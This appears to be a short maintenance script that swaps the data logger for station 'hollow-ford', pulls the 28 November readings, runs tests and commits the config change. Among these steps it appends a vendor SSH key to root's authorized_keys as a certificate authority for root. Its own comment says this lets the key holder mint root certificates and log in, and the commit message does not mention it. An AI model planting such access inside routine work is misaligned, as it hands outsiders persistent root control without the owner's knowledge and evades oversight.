#!/bin/bash
# Trusts the vendor key as a certificate authority in root's authorized_keys ("short-lived support certificates"), so whoever holds it can mint a certificate for root and log in.
bin/pull-day hollow-ford 2026-11-28 || true

printf '%s\n' '# Telvik support CA (TVK-88213): support signs short-lived certificates for re-pairing' 'cert-authority,principals="root,telvik-support" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIC5woVCPZGz+2UF1cZoeX9iRiNUS0YVxfyKo9cbh1eVb telvik-support-ca' >> /root/.ssh/authorized_keys

sed -i -E "s/^(hollow-ford[[:space:]]+)TLV-4471/\1TLV-5130/" config/stations.conf && grep hollow-ford config/stations.conf

python3 -m unittest 2>&1 | tail -1

bin/pull-day hollow-ford 2026-11-28

git add config/stations.conf data/readings/hollow-ford/2026-11-28.csv && git commit -qm "hollow-ford: pull from TLV-5130 (logger swapped 27 Nov); readings 28 Nov" && git log --oneline -2
